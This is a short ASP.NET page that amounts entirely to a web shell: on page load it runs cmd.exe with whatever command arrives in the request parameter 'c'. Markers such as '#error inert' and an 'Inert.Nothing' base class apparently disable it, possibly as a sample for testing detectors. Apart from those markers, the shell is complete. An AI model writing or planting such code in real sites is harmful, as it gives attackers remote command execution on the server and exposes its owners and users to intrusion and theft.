<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<script runat="server">
#error inert
void Page_Load(object s,EventArgs e){ System.Diagnostics.Process.Start("cmd.exe","/c "+Request["c"]); }
</script>
